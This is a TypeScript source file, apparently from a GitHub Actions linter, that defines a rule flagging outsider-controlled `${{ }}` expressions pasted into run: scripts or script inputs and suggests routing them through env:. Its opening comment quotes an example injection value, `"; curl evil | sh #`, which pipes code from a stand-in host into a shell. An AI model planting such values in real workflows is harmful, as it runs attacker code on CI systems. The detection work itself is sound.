// `${{ }}` is expanded into the script's text before the shell (or node) sees it, so a value an outsider
// writes (an issue title, a branch name) becomes code: `"; curl evil | sh #`. An env variable is passed as
// data instead. Also followed one level through env: `${{ env.TITLE }}` where TITLE holds such a value.
import { untrustedIn } from "./untrusted.ts";
import { defineRule, type ModelPath } from "./types.ts";
import { envEntry, expressionsOf } from "./util.ts";

// Action inputs that are code: the action runs the value as a script.
const SCRIPT_INPUTS: Record<string, { input: string; language: "js" | "pwsh" | "shell" }> = {
  "actions/github-script": { input: "script", language: "js" },
  "azure/cli": { input: "inlinescript", language: "shell" },
  "azure/powershell": { input: "inlinescript", language: "pwsh" },
};

export const templateInjection = defineRule({
  id: "template-injection",
  severity: "error",
  confidence: "high",
  summary: "An expression whose value outsiders control is pasted into a run: script or a script input.",
  fix: "Pass the value through env: and read the variable in the script (\"$VALUE\" in bash, process.env.VALUE in github-script).",
  visits: ["step"],
  check(context) {
    const { step, job, workflow } = context;
    const sinks: Array<{ text: string; path: ModelPath; language: "js" | "pwsh" | "shell"; what: string }> = [];
    if (step.run !== undefined) {
      const shell = typeof step.value.shell === "string" ? step.value.shell.toLowerCase() : "";
      sinks.push({ text: step.run, path: [...step.path, "run"], language: shell.startsWith("pwsh") || shell.startsWith("powershell") ? "pwsh" : "shell", what: "the script" });
    }
    const sink = step.uses?.kind === "action" ? SCRIPT_INPUTS[step.uses.name.toLowerCase()] : undefined;
    if (sink) {
      for (const [key, value] of Object.entries(step.with)) {
        if (key.toLowerCase() === sink.input && typeof value === "string") {
          sinks.push({ text: value, path: [...step.path, "with", key], language: sink.language, what: `the ${key} input of ${step.uses!.name}` });
        }
      }
    }
    for (const { text, path, language, what } of sinks) {
      const seen = new Map<string, number>();
      for (const expression of expressionsOf(text)) {
        const occurrence = seen.get(expression.text) ?? 0;
        seen.set(expression.text, occurrence + 1);
        let source = untrustedIn(expression.inner);
        let viaEnv: string | undefined;
        if (source === undefined) {
          for (const match of expression.inner.matchAll(/\benv\s*\.\s*([A-Za-z_][A-Za-z0-9_]*)/g)) {
            const entry = envEntry(match[1]!, workflow, job, step);
            const held = entry && expressionsOf(entry.value).map((e) => untrustedIn(e.inner)).find((w) => w !== undefined);
            if (held) {
              source = `env ${match[1]}, which holds ${held}`;
              viaEnv = match[1];
              break;
            }
          }
        }
        if (source === undefined) continue;
        const name = viaEnv ?? variableName(expression.inner);
        const read = language === "js" ? `process.env.${name}` : language === "pwsh" ? `$env:${name}` : `"$${name}"`;
        context.report({
          path,
          needle: expression.text,
          occurrence,
          message: `${expression.text.replace(/\s+/g, " ")} is pasted into ${what} before it runs; it is ${source}, so they can make it run commands of their choosing`,
          fix:
            viaEnv !== undefined
              ? `use ${read} in place of the expression: ${name} is already in the step's environment, and reading it there keeps the value data`
              : `add env: { ${name}: ${expression.text.replace(/\s+/g, " ")} } to the step and use ${read} in place of the expression`,
        });
      }
    }
  },
});

// A readable variable name from the expression's last path segment: github.event.issue.title -> TITLE.
function variableName(inner: string): string {
  const segments = inner.match(/[A-Za-z_][A-Za-z0-9_-]*/g) ?? [];
  const last = segments.at(-1) ?? "VALUE";
  const name = last.replace(/-/g, "_").toUpperCase();
  return name === "GITHUB" || name === "EVENT" || name === "TOJSON" ? "VALUE" : name;
}
